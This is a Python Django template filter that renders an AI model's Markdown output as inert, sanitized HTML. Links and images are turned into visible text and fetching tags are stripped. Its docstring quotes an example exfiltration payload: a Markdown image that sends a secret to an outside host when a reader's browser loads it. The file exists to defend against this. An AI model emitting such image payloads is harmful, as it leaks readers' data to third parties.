"""Template filters: Markdown from the model rendered to inert, sanitized HTML.

The model's text is untrusted: a Markdown image such as ``![x](https://host/?d=SECRET)`` would make every
reader's browser send data to that host without a click, and even a plain link lets the browser resolve its
host name ahead of time. So images and links are rendered as visible text that names their target, and
nothing the browser could fetch or follow ever reaches the page. The Content-Security-Policy
(audit_app/web/security.py) is the second wall behind this one.
"""

from __future__ import annotations

from collections.abc import Sequence

import nh3
from django import template
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

register = template.Library()

# What rendered Markdown may contain after cleaning: text structure only. No element that fetches
# (img, picture, video, audio, source, iframe, object, embed, link, svg, input) and no <a>: a stray one
# from any future rule is reduced to its text. No style or event attributes either.
ALLOWED_TAGS = {
    "p",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "em",
    "s",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "span",
}
ALLOWED_ATTRIBUTES = {"ol": {"start"}}  # classes: ALLOWED_CLASSES (nh3 refuses both)
ALLOWED_CLASSES = {"span": {"inert-link", "inert-image", "link-target"}}


def _image(self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    target = str(token.attrGet("src") or "")
    return f'<span class="inert-image">{escapeHtml(f"[image: {alt} — {target}]")}</span>'


def _link_open(self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
    return '<span class="inert-link">'


def _link_close(self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
    # CommonMark links never nest, so the nearest link_open before this close is its own.
    opening = next(tokens[i] for i in range(idx - 1, -1, -1) if tokens[i].type == "link_open")
    if opening.markup == "autolink":  # the visible text already is the target
        return "</span>"
    target = str(opening.attrGet("href") or "")
    return f'</span> <span class="link-target">({escapeHtml(target)})</span>'


def inert_markdown() -> MarkdownIt:
    """A Markdown parser whose output can fetch nothing (the audit report adds its math rule to one of these)."""
    # "js-default": CommonMark with raw HTML off, so raw HTML in the model's text stays visible text.
    parser = MarkdownIt("js-default").enable("table")
    parser.add_render_rule("image", _image)
    parser.add_render_rule("link_open", _link_open)
    parser.add_render_rule("link_close", _link_close)
    return parser


_markdown = inert_markdown()


@register.filter
def markdown(text: str) -> SafeString:
    """Model output as HTML that shows links and images as text and can load nothing."""
    html = _markdown.render(text or "")
    return mark_safe(
        nh3.clean(
            html,
            tags=ALLOWED_TAGS,
            attributes=ALLOWED_ATTRIBUTES,
            allowed_classes=ALLOWED_CLASSES,
            url_schemes=set(),
            link_rel=None,
        )
    )
